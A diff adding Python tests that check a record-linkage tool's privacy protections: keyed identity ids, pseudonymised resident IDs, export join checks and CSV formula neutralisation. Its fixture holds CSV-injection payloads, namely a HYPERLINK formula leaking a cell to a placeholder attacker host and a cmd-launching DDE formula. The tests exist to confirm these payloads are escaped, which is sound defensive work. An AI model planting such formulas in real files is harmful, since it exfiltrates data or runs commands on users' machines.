@@ -1,0 +1,182 @@
+"""Leaks through the command line: identity ids, exports and CSV cells (docs/privacy.md)."""
+
+from __future__ import annotations
+
+import hashlib
+import re
+import stat
+
+import pandas as pd
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from typer.testing import CliRunner
+
+from linkage.cli import app
+from linkage.io import neutralize_formulas, restore_formulas
+
+runner = CliRunner()
+
+REGISTRY = (
+    "rid,name,birth,addr,phone\n"
+    'MZ202000000001,张伟,1980-01-02,"=HYPERLINK(""http://evil.example/?d=""&B2,""详情"")",-\n'
+    '=HYPERLINK("http://x"),李娜,1975-03-04,北京市朝阳区建国路1号,+86 138 0013 8000\n'
+    "@SUM(1),王芳,1990-05-06,-2+3+cmd|' /C calc'!A0,13800138000\n"
+)
+CONFIG = """
+sources:
+  civil_affairs:
+    path: a.csv
+    record_id: rid
+    columns: {name: name, birth: birth_date, addr: current_address, phone: phone}
+"""
+
+
+def _project(tmp_path):
+    (tmp_path / "a.csv").write_text(REGISTRY, encoding="utf-8")
+    (tmp_path / "run.yaml").write_text(CONFIG, encoding="utf-8")
+    return tmp_path / "run.yaml"
+
+
+def _unkeyed(source: str, record_id: str) -> str:
+    return "ID" + hashlib.sha1(f"{source}\x1f{record_id}".encode()).hexdigest()[:14].upper()
+
+
+def test_identity_ids_are_keyed_stable_and_not_the_unkeyed_hash(tmp_path, monkeypatch):
+    monkeypatch.delenv("LINKAGE_ID_KEY", raising=False)
+    config = _project(tmp_path)
+    ids = {}
+    for run in ("one", "two"):
+        result = runner.invoke(app, ["run", str(config), "--output", str(tmp_path / run), "-q"])
+        assert result.exit_code == 0, result.output
+        ids[run] = pd.read_csv(tmp_path / run / "identities.csv", dtype=str)
+    key_file = tmp_path / "one" / "identity.key"
+    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
+    # a second output folder has its own key: ids differ; the same key gives the same ids
+    assert not set(ids["one"]["identity_id"]) & set(ids["two"]["identity_id"])
+    again = runner.invoke(app, ["run", str(config), "--output", str(tmp_path / "one"), "-q"])
+    assert again.exit_code == 0, again.output
+    same = pd.read_csv(tmp_path / "one" / "identities.csv", dtype=str)
+    assert same["identity_id"].tolist() == ids["one"]["identity_id"].tolist()
+    records = restore_formulas(ids["one"])
+    unkeyed = {_unkeyed(s, r) for s, r in zip(records["source"], records["record_id"], strict=True)}
+    assert not unkeyed & set(records["identity_id"])
+    # a store keeps its own secret: two runs into one store keep every id
+    store = tmp_path / "s.duckdb"
+    for run in ("s1", "s2"):
+        result = runner.invoke(
+            app, ["run", str(config), "--output", str(tmp_path / run), "--store", str(store), "-q"]
+        )
+        assert result.exit_code == 0, result.output
+    s1 = pd.read_csv(tmp_path / "s1" / "identities.csv", dtype=str)
+    s2 = pd.read_csv(tmp_path / "s2" / "identities.csv", dtype=str)
+    assert s1["identity_id"].tolist() == s2["identity_id"].tolist()
+    assert not unkeyed & set(s1["identity_id"])
+
+
+def test_formula_cells_are_neutralized_in_every_csv_for_people(tmp_path):
+    config = _project(tmp_path)
+    store = tmp_path / "s.duckdb"
+    result = runner.invoke(
+        app, ["run", str(config), "--output", str(tmp_path / "out"), "--store", str(store), "-q"]
+    )
+    assert result.exit_code == 0, result.output
+    result = runner.invoke(
+        app,
+        ["export", "--store", str(store), "--department", "civil_affairs", "--output",
+         str(tmp_path / "export.csv"), "-q"],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    files = ["out/identities.csv", "out/golden_records.csv", "out/cluster_sizes.csv", "export.csv"]
+    for name in files:
+        frame = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False)
+        cells = [str(v) for v in frame.to_numpy().ravel()]
+        bad = [c for c in cells if c[:1] in ("=", "@") or c.startswith("-2+")]
+        assert not bad, (name, bad)
+    ids = pd.read_csv(tmp_path / "out" / "identities.csv", dtype=str)
+    assert set(restore_formulas(ids)["record_id"]) == {
+        "MZ202000000001",
+        '=HYPERLINK("http://x")',
+        "@SUM(1)",
+    }
+    golden = pd.read_csv(tmp_path / "out" / "golden_records.csv", dtype=str)
+    assert "'-2+3+cmd|' /C calc'!A0" in set(golden["current_address"])
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.one_of(st.none(), st.text(max_size=8)), min_size=1, max_size=10))
+def test_neutralize_then_restore_is_exact_and_leaves_no_formula(values):
+    frame = pd.DataFrame({"v": values, "n": range(len(values))})
+    safe = neutralize_formulas(frame)
+    for value in safe["v"].dropna():
+        if value[:1] in ("=", "@", "\t", "\r"):
+            raise AssertionError(value)
+        if value[:1] in ("+", "-"):  # only a signed number, phone or filler stays unescaped
+            assert re.fullmatch(r"[+-][\d\s.()\-]*", value), value
+    back = restore_formulas(safe)
+    assert back["v"].tolist() == frame["v"].tolist()
+    assert back["n"].tolist() == frame["n"].tolist()
+
+
+def test_encode_never_copies_identifier_record_ids(tmp_path, monkeypatch):
+    (tmp_path / "a.csv").write_text(
+        "sfz,name,birth\n110105194912310021,张伟,1949-12-31\n44030619900101002X,李娜,1990-01-01\n",
+        encoding="utf-8",
+    )
+    (tmp_path / "run.yaml").write_text(
+        "sources:\n  reg: {path: a.csv, record_id: sfz, "
+        "columns: {name: name, birth: birth_date, sfz: id_number}}\n",
+        encoding="utf-8",
+    )
+    monkeypatch.setenv("LINKAGE_PPRL_KEY", "custodians-secret-0123456789")
+    out = tmp_path / "clk.csv"
+    args = ["encode", str(tmp_path / "run.yaml"), "--output", str(out)]
+    result = runner.invoke(app, [*args, "--key-map", str(tmp_path / "map.csv")])
+    assert result.exit_code == 0, result.output
+    text = out.read_text(encoding="utf-8")
+    assert "110105194912310021" not in text and "44030619900101002X" not in text
+    local = pd.read_csv(tmp_path / "map.csv", dtype=str)
+    encoded = pd.read_csv(out, dtype=str)
+    assert local["pseudonym"].tolist() == encoded["record_id"].tolist()
+    assert local["record_id"].tolist() == ["110105194912310021", "44030619900101002X"]
+    result = runner.invoke(app, [*args, "--record-ids", "plain"])
+    assert result.exit_code == 2 and "look like resident IDs" in result.output
+    # the linkage unit reads CSV encodings too; bad files are refused with exit 2
+    pairs = tmp_path / "pairs.csv"
+    result = runner.invoke(app, ["link-encodings", str(out), str(out), "--output", str(pairs)])
+    assert result.exit_code == 0, result.output
+    assert len(pd.read_csv(pairs)) == 2
+    (tmp_path / "bad.csv").write_text("source,record_id\nreg,R1\n", encoding="utf-8")
+    for other, message in (
+        (tmp_path / "missing.csv", "missing.csv"),
+        (tmp_path / "bad.csv", "lack columns"),
+    ):
+        result = runner.invoke(
+            app, ["link-encodings", str(out), str(other), "--output", str(pairs)]
+        )
+        assert result.exit_code == 2 and message in result.output, result.output
+
+
+def test_export_refuses_a_policy_whose_joined_exports_rebuild_ids(tmp_path):
+    import yaml
+
+    from linkage.share import DEFAULT_POLICY_PATH
+
+    config = _project(tmp_path)
+    store = tmp_path / "s.duckdb"
+    result = runner.invoke(
+        app, ["run", str(config), "--output", str(tmp_path / "out"), "--store", str(store), "-q"]
+    )
+    assert result.exit_code == 0, result.output
+    data = yaml.safe_load(open(DEFAULT_POLICY_PATH, encoding="utf-8"))
+    for department in ("health", "social_security"):
+        data["departments"][department]["identity"] = "identity_id"
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    result = runner.invoke(
+        app,
+        ["export", "--store", str(store), "--department", "health", "--policy", str(policy),
+         "--output", str(tmp_path / "health.csv")],
+    )  # fmt: skip
+    assert result.exit_code == 2
+    assert "health, social_security can join" in result.output
+    assert not (tmp_path / "health.csv").exists()
